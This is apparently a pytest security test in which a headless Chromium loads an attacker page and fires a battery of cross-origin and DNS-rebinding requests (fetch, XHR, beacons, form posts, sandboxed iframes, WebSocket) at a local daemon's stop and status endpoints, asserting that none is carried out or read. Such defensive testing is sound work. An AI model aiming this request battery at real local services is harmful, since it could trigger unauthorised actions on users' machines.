"""A page in a real Chromium tries every request that a page can send through a forwarded port: none is carried out."""

from __future__ import annotations

import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from forwarded_port import ForwardedPort, forwarded_port
from view_by_hand import FakeView, serving

CHROMIUM = shutil.which("chromium")
LIMIT_S = 180.0
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Debian's package chromium is not installed")

PAGE = """<!doctype html><body><script>
const at = %(targets)s, stop = '/v1/jobs/yolo/stop', read = [];
const later = ms => new Promise(done => setTimeout(done, ms));
const attempt = async call => { try { const got = await call(); if (got && got.ok) read.push(await got.text()); }
                                catch (error) {} };
const frame = html => { const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-forms';
                        f.srcdoc = html; document.body.append(f); };
(async () => {
  for (const base of at) {
    await attempt(() => fetch(base + stop, {method: 'POST', mode: 'no-cors'}));
    await attempt(() => fetch(base + stop, {method: 'POST', mode: 'no-cors', body: '{}', referrerPolicy: 'no-referrer',
                                            headers: {'Content-Type': 'text/plain'}, credentials: 'omit'}));
    await attempt(() => fetch(base + stop, {method: 'POST', headers: {'Content-Type': 'application/json'}}));
    await attempt(() => fetch(base + '/v1/status'));
    await attempt(() => new Promise(done => { const r = new XMLHttpRequest(); r.onloadend = () => done(null);
                                              r.open('POST', base + stop); r.send('{}'); }));
    navigator.sendBeacon(base + stop, '{}');
    new Image().src = base + '/v1/status';
    new EventSource(base + '/v1/status');
    try { new WebSocket(base.replace('http', 'ws') + '/v1/status'); } catch (error) {}
    const form = document.createElement('form');
    form.method = 'post'; form.action = base + stop; form.target = 'shown'; form.enctype = 'text/plain';
    const shown = document.createElement('iframe'); shown.name = 'shown';
    document.body.append(shown, form); form.submit();
    frame(`<script>fetch('${base + stop}', {method: 'POST', mode: 'no-cors'})<` + `/script>`);
    frame(`<form method=post action='${base + stop}'></form><script>document.forms[0].submit()<` + `/script>`);
    const script = document.createElement('script'); script.src = base + '/v1/status'; document.body.append(script);
  }
  await later(1500);
  await fetch('%(report)s/done', {method: 'POST', mode: 'no-cors', body: JSON.stringify(read)});
})();
</script></body>"""


class Attacker:
    """Serves its page, forwards each request for anything else once the page was served, and waits for its report.

    So one address answers first as the attacker's site and then as the daemon: what DNS rebinding comes to.
    """

    def __init__(self, behind: ForwardedPort, hosts: tuple[str, ...]) -> None:
        self._behind, self._hosts = behind, hosts
        self._site = socket.create_server(("127.0.0.1", 0))
        # A connection that was forwarded once stays the daemon's: the report comes to a port of its own.
        self._reports = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._site.getsockname()[1]
        self.report: bytes | None = None
        self.done = threading.Event()
        for listening in (self._site, self._reports):
            threading.Thread(target=self._serve, args=(listening,), daemon=True).start()

    def close(self) -> None:
        for listening in (self._site, self._reports):
            with suppress(OSError):
                listening.shutdown(socket.SHUT_RDWR)
            listening.close()

    def _serve(self, listening: socket.socket) -> None:
        while True:
            try:
                client, _ = listening.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=(client,), daemon=True).start()

    def _answer(self, client: socket.socket) -> None:
        head = client.recv(65536)
        if not head:
            client.close()
        elif head.startswith(b"GET /page "):
            targets = [f"http://{host}:{self._behind.port}" for host in self._hosts]
            report = f"http://127.0.0.1:{self._reports.getsockname()[1]}"
            page = PAGE % {"targets": [*targets, f"http://rebound.example:{self.port}"], "report": report}
            self._say(client, page.encode())
        elif head.startswith(b"POST /done "):
            while b"]" not in head.partition(b"\r\n\r\n")[2]:
                head += client.recv(65536)
            self.report = head.partition(b"\r\n\r\n")[2]
            self._say(client, b"")
            self.done.set()
        else:
            self._behind.take(client, head)

    def _say(self, client: socket.socket, body: bytes) -> None:
        length = f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode()
        client.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n" + length + body)
        client.close()


@pytest.fixture
def view() -> FakeView:
    return FakeView()


@pytest.fixture
def forwarded(view: FakeView) -> Iterator[ForwardedPort]:
    with serving(view) as path, forwarded_port(path) as port:
        yield port


@pytest.fixture
def attacker(forwarded: ForwardedPort) -> Iterator[Attacker]:
    site = Attacker(forwarded, ("localhost", "127.0.0.1", "daemon"))
    yield site
    site.close()


def browse(url: str, profile: Path, done: threading.Event, came: Callable[[], bool]) -> None:
    """Have a browser show a page until that has reported and its requests came, which no page is told of."""
    assert CHROMIUM is not None
    words = [
        CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
        "--disable-background-networking", f"--user-data-dir={profile}",
        "--host-resolver-rules=MAP rebound.example 127.0.0.1, MAP evil.example 127.0.0.1, MAP daemon 127.0.0.1",
        "--remote-debugging-port=0",  # keeps it open until it is ended
        url,
    ]  # fmt: skip
    with (profile.parent / "chromium.log").open("wb") as log:
        browser = subprocess.Popen(words, stdout=log, stderr=log, start_new_session=True)
        try:
            assert done.wait(LIMIT_S), (profile.parent / "chromium.log").read_text(errors="replace")[-3000:]
            end = time.perf_counter() + LIMIT_S
            while not came():
                assert time.perf_counter() < end, "the page's requests did not come through the forwarded port"
                time.sleep(0.05)
        finally:
            browser.terminate()
            browser.wait(LIMIT_S)


@pytest.mark.parametrize("origin", ["evil.example", "rebound.example"])
def test_no_request_of_a_page_is_carried_out_or_read(
    attacker: Attacker, forwarded: ForwardedPort, view: FakeView, tmp_path: Path, origin: str
) -> None:
    def came() -> bool:
        posts = [head for head in forwarded.heads if head.startswith(b"POST /v1/jobs/yolo/stop ")]
        gets = [head for head in forwarded.heads if head.startswith(b"GET /v1/status ")]
        return len(posts) >= 12 and len(gets) >= 4

    browse(f"http://{origin}:{attacker.port}/page", tmp_path / "profile", attacker.done, came)
    assert view.asked == []
    assert attacker.report == b"[]", "the page read an answer"
